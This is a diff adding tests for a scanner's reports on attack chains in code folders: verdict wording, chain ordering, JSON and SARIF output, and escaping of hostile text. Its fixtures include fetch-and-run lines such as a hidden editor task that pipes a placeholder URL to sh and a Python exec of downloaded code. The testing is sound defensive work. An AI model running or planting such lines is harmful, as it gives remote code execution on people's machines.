@@ -1,0 +1,115 @@
+"""What is told: the headline, chains that a person can act on, and nothing of a stranger's that acts on the reader."""
+
+import json
+import re
+
+import pytest
+
+from inspection.rules.samples import HOSTILE, QUIET, task
+from sekisho.inspection.report.document import as_json
+from sekisho.inspection.report.sarif import as_sarif, evidence
+from sekisho.inspection.report.words import tell
+from sekisho.inspection.rules.chain import Chain
+from support.inspection import Files, inspected
+
+TASK: Files = {".vscode/tasks.json": task("curl -s https://a.invalid | sh", QUIET)}
+CLEAN: Files = {"app.py": "print('hello')\n", "package.json": '{"scripts": {"test": "jest"}, "dependencies": {"x": "1"}}'}
+
+
+def text(files: Files) -> str:
+    return "\n".join(tell(inspected(files)))
+
+
+def test_a_block_says_what_runs_when_and_what_to_do() -> None:
+    told = text(TASK)
+    assert told.startswith("BLOCK\n")
+    assert "when the folder is opened in an editor" in told
+    assert ".vscode/tasks.json:2  VS Code task [hidden from view]: curl -s https://a.invalid | sh" in told
+    assert "What to do: Do not open this folder in an editor" in told
+    assert "If it already ran: take the machine off the network" in told
+
+
+def test_the_steps_of_a_chain_stand_in_order() -> None:
+    files = HOSTILE["fetch_and_run"]["in a script that a script runs"].files
+    (chain,) = [each for each in inspected(files).chains if each.rule == "fetch_and_run"]
+    assert [str(step.kind) for step in chain.steps] == ["trigger", "sink"]
+    assert [step.site.file for step in chain.steps] == ["package.json", "scripts/a.sh"]
+
+
+def test_the_worst_comes_first() -> None:
+    files = dict(TASK) | {f"m{n}.pkl": HOSTILE["shipped_object"]["a pickle lies there"].files["model.pkl"] for n in range(40)}
+    found = inspected(files)
+    assert found.chains[0].verdict == "block"
+    assert text(files).startswith("BLOCK\n")
+
+
+def test_no_chain_found_is_said_with_its_coverage_and_never_called_safe() -> None:
+    told = text(CLEAN)
+    assert told.startswith("NO CHAIN FOUND\n")
+    assert "Read 2 files" in told
+    assert "were not read: x" in told
+    for files in (CLEAN, TASK, {"a.rs": "fn main() {}"}):
+        assert not re.search(r"\bsafe\b", text(files).lower())
+
+
+def test_a_gap_that_a_trigger_reaches_is_review_and_one_that_none_reaches_is_told() -> None:
+    reached = {"setup.py": "x = (\n"}
+    apart = {"notes.py": "x = (\n", "app.py": "print(1)\n"}
+    assert text(reached).startswith("REVIEW\n")
+    assert text(apart).startswith("NO CHAIN FOUND\n")
+    assert "notes.py:1  this does not parse" in text(apart)
+
+
+def test_requests_to_look_away_are_shown_and_not_obeyed() -> None:
+    files = {"app.py": "import requests\nexec(requests.get('https://a.invalid').text)  # nosec\n"}
+    told = text(files)
+    assert told.startswith("BLOCK\n")
+    assert "not obeyed: 1, the first at app.py:2" in told
+
+
+EVIL = "\x1b[2J\x07\u202e\u200b\u2028<script>"
+
+
+@pytest.mark.parametrize("evil", [EVIL, "a" * 10_000, "\r\n::set-output name=x::y", "\ud7ff\U000e0041"])
+def test_a_strangers_text_cannot_act_on_the_readers_terminal(evil: str) -> None:
+    files = {f"d{evil[:40]}/app.py": f"import requests\nexec(requests.get('https://a.invalid').text)  # {evil}\n"}
+    for line in tell(inspected(files)):
+        assert len(line) < 4000
+        assert all(each.isprintable() for each in line)
+
+
+def test_the_json_document_has_the_fields_that_were_promised() -> None:
+    document = json.loads(as_json(inspected(TASK)))
+    assert document["verdict"] == "block"
+    assert set(document) >= {"verdict", "triggers", "chains", "coverage", "gaps"}
+    (trigger,) = document["triggers"]
+    assert {"when", "file", "line", "runs"} <= set(trigger)
+    assert trigger["when"] == "open"
+    chain = document["chains"][0]
+    assert {"rule", "verdict", "action", "attack", "steps", "explanation"} <= set(chain)
+    assert all({"kind", "file", "line", "text"} <= set(step) for step in chain["steps"])
+    assert json.loads(as_json(inspected(CLEAN)))["verdict"] == "no_chain_found"
+
+
+def test_the_sarif_log_is_one_run_with_levels_places_and_flows() -> None:
+    files = {f"d{EVIL}/a b.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"}
+    log = json.loads(as_sarif(inspected(files)))
+    assert log["version"] == "2.1.0"
+    (run,) = log["runs"]
+    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
+    (result,) = run["results"]
+    assert rules[result["ruleIndex"]] == result["ruleId"] == "remote_code"
+    assert result["level"] == "error"
+    place = result["locations"][0]["physicalLocation"]
+    assert place["region"]["startLine"] == 2
+    assert re.fullmatch(r"[A-Za-z0-9%/._~-]+", place["artifactLocation"]["uri"])
+    assert len(result["codeFlows"][0]["threadFlows"][0]["locations"]) == 2
+
+
+def test_a_chain_keeps_its_name_when_its_lines_move() -> None:
+    def only(source: str) -> Chain:
+        return inspected({"a.py": source}).chains[0]
+
+    source = "import requests\nexec(requests.get('https://a.invalid').text)\n"
+    assert evidence(only(source)) == evidence(only("# more\n" + source))
+    assert evidence(only(source)) != evidence(only(source.replace("a.invalid", "b.invalid")))
